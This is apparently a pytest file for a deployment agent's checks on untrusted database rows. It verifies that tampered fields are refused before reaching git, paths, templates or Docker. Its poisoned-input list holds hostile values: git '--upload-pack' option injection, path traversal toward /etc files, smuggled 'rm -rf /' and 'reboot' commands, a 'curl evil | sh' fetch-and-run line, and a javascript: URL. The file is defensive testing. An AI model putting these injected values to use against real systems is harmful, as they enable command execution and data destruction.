"""The agent's re-check of rows read from the shared database: a row web
could have written (it is taken over) is refused, naming the field, before
any value of it reaches argv, a path, a template or the Docker API."""

from __future__ import annotations

import subprocess
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine
from sqlmodel import select

from agent.pipeline import Pipeline
from agent.source import SourceCache
from paas import queue
from paas.crypto import Keyring
from paas.db import session_scope
from paas.models import App, Deployment, Job, Notice
from paas.settings import Settings
from paas.trust import (
    UntrustedRow,
    check_app,
    check_github_app,
    check_hostname,
    check_job,
    check_release,
    github_report,
    notify_message,
)

SHA = "a" * 40


def app_row(**changes: Any) -> App:
    fields: dict[str, Any] = {"name": "shop", "repo_url": "https://github.com/o/shop.git"}
    fields["webhook_secret"] = "x"
    return App(**{**fields, **changes})


def release_row(**changes: Any) -> Deployment:
    fields: dict[str, Any] = {
        "app_id": 1,
        "version": 3,
        "commit": SHA,
        "image": "paas/shop:v3",
        "procfile": {"web": "gunicorn app:app", "worker": "python -m worker"},
        "containers": ["paas-shop-web-v3-1", "paas-shop-worker-v3-1"],
        "upstreams": ["127.0.0.1:20001"],
        "host_port": 20001,
        "container_port": 8000,
        "env": [{"key": "DATABASE_URL", "value": "gAAAA...", "secret": True}],
    }
    return Deployment(**{**fields, **changes})


def job_row(**payload: Any) -> Job:
    return Job(id=7, kind=queue.DEPLOY, app_name="shop", payload={"ref": "refs/heads/main", **payload})


URL = "https://paas.example.com/apps/shop/releases/3"
GITHUB_OPS: list[dict[str, Any]] = [
    {"op": "status", "sha": SHA, "state": "pending", "description": "queued", "target_url": URL},
    {"op": "deployment", "ref": SHA, "description": "paas: deploy (push)", "payload": {"paas_job": 7}},
    {"op": "deployment_status", "state": "queued", "description": "queued", "log_url": URL},
    {
        "op": "deployment_status",
        "state": "success",
        "description": "v3 is live",
        "log_url": URL,
        "environment_url": "https://shop.example.com",
    },
    {"op": "inactivate_previous"},
]


def github_notice(*ops: dict[str, Any], **changes: Any) -> Notice:
    fields: dict[str, Any] = {
        "id": 9,
        "channel": "github",
        "app_id": 1,
        "app_name": "shop",
        "job_id": 7,
        "event": "queued",
        "payload": {"ops": list(ops or GITHUB_OPS), "live": False},
    }
    return Notice(**{**fields, **changes})


def notify_notice(attempts: Any = 0, **payload: Any) -> Notice:
    body = {"title": "shop: v3 is live", "body": "abc (push)\nhttps://x", "type": "success", **payload}
    notice = Notice(id=9, channel="notify", app_id=1, app_name="shop", event="deploy.succeeded", payload=body)
    notice.attempts = attempts  # as a row web wrote may hold it, unvalidated
    return notice


def op(index: int, **changes: Any) -> dict[str, Any]:
    return {**GITHUB_OPS[index], **changes}


def test_rows_as_paas_writes_them_pass() -> None:
    ops = github_report(github_notice(), app=app_row(id=1)).ops
    assert [op.model_dump(exclude_unset=True) for op in ops] == GITHUB_OPS
    assert notify_message(notify_notice()).type == "success"
    assert check_github_app(app_row(github_repo="octo/shop", github_token="s")).github_repo == "octo/shop"
    assert check_app(app_row(scale={"web": 2}, source_dir="svc", health_path="/healthz")).name == "shop"
    assert check_release(release_row(), app="shop").version == 3
    assert check_job(job_row(commit=SHA, trigger="push", actor="github", message="fix\n\nbody")).id == 7
    assert check_job(Job(id=8, kind=queue.ROLLBACK, app_name="shop", payload={"source_version": 2})).id == 8
    assert check_hostname("www.example.com", where="a domain") == "www.example.com"


# every poisoned value, one line each: (what is checked, the row, the field the error names)
POISONED: list[tuple[str, Any, str]] = [
    ("app", app_row(name="shop\n"), "name"),
    ("app", app_row(name="../etc"), "name"),
    ("app", app_row(name="-rf"), "name"),
    ("app", app_row(repo_url="--upload-pack=touch /tmp/pwned"), "repo_url"),
    ("app", app_row(repo_url=" https://github.com/o/shop.git"), "repo_url"),
    ("app", app_row(branch="main\n"), "branch"),
    ("app", app_row(branch="--force"), "branch"),
    ("app", app_row(source_dir="../../etc"), "source_dir"),
    ("app", app_row(dockerfile="/etc/shadow"), "dockerfile"),
    ("app", app_row(data_path="/"), "data_path"),
    ("app", app_row(base_image="python:3.12\nRUN id"), "base_image"),
    ("app", app_row(run_command="gunicorn\nid"), "run_command"),
    ("app", app_row(port=70000), "port"),
    ("app", app_row(health_path="/ok\nHost: evil"), "health_path"),
    ("app", app_row(scale={"web": 10_000}), "processes.web"),
    ("app", app_row(scale={"../x": 1}), "processes"),
    ("job", job_row(commit="--upload-pack=touch /tmp/pwned"), "payload.commit"),
    ("job", job_row(ref="refs/heads/--output=/etc/passwd"), "payload.ref"),
    ("job", job_row(ref="main\n"), "payload.ref"),
    ("job", job_row(run_release="yes"), "payload.run_release"),
    ("job", job_row(source_version="3; rm -rf /"), "payload.source_version"),
    ("job", job_row(unexpected=1), "payload"),
    ("job", Job(id=7, kind="shell", app_name="shop", payload={}), "kind"),
    ("job", Job(id=7, kind=queue.DELETE, app_name="../../etc", payload={}), "name"),
    ("release", release_row(image="paas/other:v5"), "image"),
    ("release", release_row(image="alpine:latest"), "image"),
    ("release", release_row(image="paas/shop:v3\n"), "image"),
    ("release", release_row(commit="--upload-pack=x"), "commit"),
    ("release", release_row(containers=["paas-other-web-v1-1"]), "containers"),
    ("release", release_row(containers=["paas-shop-web-v3-1; reboot"]), "containers"),
    ("release", release_row(upstreams=["10.0.0.5:80"]), "upstreams"),
    ("release", release_row(upstreams=["127.0.0.1:80;\n}"]), "upstreams"),
    ("release", release_row(procfile={"web\n": "x"}), "processes"),
    ("release", release_row(procfile={"web": "a\0b"}), "procfile.web"),
    ("release", release_row(host_port=0), "port"),
    ("release", release_row(env=[{"key": "A\nB", "value": "x"}]), "env"),
    ("github app", app_row(github_repo="octo/.."), "github_repo"),
    ("github app", app_row(github_repo="octo/."), "github_repo"),
    ("github app", app_row(github_repo=" octo/shop"), "github_repo"),
    ("github app", app_row(github_environment="prod\n"), "github_environment"),
    ("github", github_notice(op(1, ref="--force")), "payload.ops[0].ref"),
    ("github", github_notice(op(1, ref="main\n")), "payload.ops[0].ref"),
    (
        "github",
        github_notice(op(1, payload={"paas_job": 7, "run": "curl evil | sh"})),
        "payload.ops[0].payload",
    ),
    ("github", github_notice(op(1, payload={"paas_job": 8})), "payload.ops[0].payload"),
    ("github", github_notice(op(1, environment="production")), "payload.ops[0]"),
    ("github", github_notice(op(0, sha="HEAD")), "payload.ops[0].sha"),
    ("github", github_notice(op(0, state="approved")), "payload.ops[0].state"),
    ("github", github_notice(op(0, target_url="javascript:alert(1)")), "payload.ops[0].target_url"),
    ("github", github_notice(op(2, log_url="https://evil.example/x y")), "payload.ops[0].log_url"),
    ("github", github_notice({"op": "merge", "base": "main"}), "payload.ops[0]"),
    ("github", github_notice(channel="notify"), "channel"),
    ("github", github_notice(app_id=2), "app"),
    ("github", github_notice(app_name="../../x"), "name"),
    ("github", github_notice(payload={"ops": GITHUB_OPS, "live": False, "token": "x"}), "payload"),
    ("github", github_notice(progress={"done": 0, "errors": 5}), "progress"),
    ("github", github_notice(progress={"done": -1}), "progress"),
    ("github", github_notice(progress={"deployment": True}), "progress"),
    ("github", github_notice(attempts=-1_000_000), "attempts"),
    ("github", github_notice(created_at=datetime(2999, 1, 1, tzinfo=UTC)), "created_at"),
    ("notify", notify_notice(attempts=-1_000_000), "attempts"),
    ("notify", notify_notice(attempts="x"), "attempts"),
    ("notify", notify_notice(type="root"), "payload.type"),
    ("notify", notify_notice(url="json://evil"), "payload"),
    ("notify", notify_notice(body=7), "payload.body"),
    ("hostname", "shop.example.com\n", "hostname"),
    ("hostname", "shop.example.com;\n}", "hostname"),
    ("hostname", "../../etc/passwd", "hostname"),
]


@pytest.mark.parametrize(("kind", "row", "field"), POISONED)
def test_a_poisoned_row_is_refused_naming_its_field(kind: str, row: Any, field: str) -> None:
    check = {
        "app": check_app,
        "job": check_job,
        "github app": check_github_app,
        "github": lambda n: github_report(n, app=app_row(id=1)),
        "notify": notify_message,
        "release": lambda r: check_release(r, app="shop"),
        "hostname": lambda h: check_hostname(h, where="a domain"),
    }[kind]
    with pytest.raises(UntrustedRow) as refused:
        check(row)
    assert f"its {field} " in str(refused.value), str(refused.value)


def test_a_poisoned_job_reaches_neither_git_nor_the_engine(
    settings: Settings, engine: Engine, tmp_path: Path
) -> None:
    """A job row whose commit is a git option: the deploy is refused before
    fetch, so the option never reaches git and nothing runs as root."""
    marker = tmp_path / "pwned"
    work = tmp_path / "repo"
    work.mkdir()
    (work / "app.py").write_text("print('hi')\n")
    git = ["git", "-C", str(work), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run(["git", "init", "-q", "-b", "main", str(work)], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "c"], check=True)
    with session_scope(engine) as session:
        app = App(name="shop", repo_url=str(work), webhook_secret="x")
        session.add(app)
        session.flush()
        job = queue.enqueue(
            session, kind=queue.DEPLOY, app=app, payload={"commit": f"--upload-pack=touch {marker}"}
        )
        session.flush()
        session.expunge(job)
    pipeline = Pipeline(
        settings=settings,
        db=engine,
        docker=None,  # type: ignore[arg-type]  (never reached)
        nginx=None,  # type: ignore[arg-type]
        source=SourceCache(settings.repos_dir),
        instance="test",
        keyring=Keyring(settings.keys_dir, private=True),
    )
    with pytest.raises(UntrustedRow, match="payload.commit"):
        pipeline.run(job)
    assert not marker.exists()
    assert not settings.repos_dir.exists()
    with session_scope(engine) as session:
        assert session.exec(select(Deployment)).all() == []
